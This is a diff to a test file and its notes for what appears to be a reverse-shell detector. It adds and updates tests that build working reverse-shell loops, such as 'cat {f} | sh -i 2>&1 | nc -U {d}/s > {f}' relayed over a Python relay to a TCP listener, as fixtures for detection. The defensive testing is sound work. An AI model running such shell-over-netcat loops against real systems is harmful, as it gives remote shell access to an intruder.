@@ -26,11 +26,11 @@ Fixed since: a renamed copy of a shell (exe:shell-copy, by its loadable segments
 
 Fixed since: a shell behind a pty (`script -qc 'sh -i'`: its master's holder's streams).
 
-Left (strict xfail, the reasons on each): a loop through a UNIX socket to the process holding the connection,
-the `while read l; do $l; done` loop a job queue's shape hides (as a cell it is refused), a padded library listed by a RECORD of the user's own
+Left (strict xfail, the reasons on each): the `while read l; do $l; done` loop a job queue's shape hides (as a cell it is refused), a padded library listed by a RECORD of the user's own
 (a wheel the user installs is owned by design), and a library that maps part of its own file
 no loadable segment covers. A shell fed by `tail -f` of a regular file its relay appends to
-was one too (fixed in session 25: a file closes a loop as a FIFO does).
+and a loop through a UNIX socket to the process holding the connection were too (fixed in
+session 25: a file closes a loop as a FIFO does, and a UNIX socket's peer is asked).
 
 Measured (not kept as a test: 6 GB of files): a Python process mapping 20 copies of a 300 MiB
 library no package owns (a conda environment's lib, which no RECORD lists) costs 4.9 GB read
@@ -390,18 +390,30 @@ pump(outside, inside)
 """
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "the loop's hop that touches the network is `nc -U`, holding a UNIX socket to a Python "
-    "relay (no pipe on it) that holds the TCP connection: a loop is followed through pipes "
-    "and FIFOs only, and a UNIX socket's peer is not read (it needs sock_diag)"))
 def test_a_loop_through_a_unix_socket_to_the_connection_is_recognised(listener,  # noqa: F811
                                                                       tmp_path):
+    """Was a strict xfail (session 25: a connected UNIX socket's peer is asked through
+    sock_diag, and its two ends' holders pass on what they read: pipes.read_ends)."""
     relay = tmp_path / "relay.py"
     relay.write_text(RELAY)
     found, _ = _reverse_shell(
         f"python3 {relay} {{d}}/s {{port}} & while [ ! -S {{d}}/s ]; do sleep 0.05; done; "
         "cat {f} | sh -i 2>&1 | nc -U {d}/s > {f}", listener, tmp_path, holder="python")
     assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+def test_a_shell_whose_output_goes_through_a_unix_socket_to_a_connection_is_left_alone(
+        listener, tmp_path):  # noqa: F811
+    """The same relay, the shell's output shipped through `nc -U` and nc's output to the
+    terminal: its input is a file's (`sh -i < commands`), nothing read back: no loop."""
+    relay = tmp_path / "relay.py"
+    relay.write_text(RELAY)
+    (tmp_path / "commands").write_text("sleep 300\n")
+    found, relays = _reverse_shell(
+        f"python3 {relay} {{d}}/s {{port}} & while [ ! -S {{d}}/s ]; do sleep 0.05; done; "
+        "cat {d}/commands {f} | sh -i 2>&1 | nc -U {d}/s > /dev/null", listener, tmp_path,
+        holder="python")
+    assert relays["sh -i"] == "" and found == set()  # (looked at: no relay)
 
 
 def test_a_shell_fed_by_tail_f_of_a_file_its_relay_appends_to_is_recognised(listener,  # noqa: F811
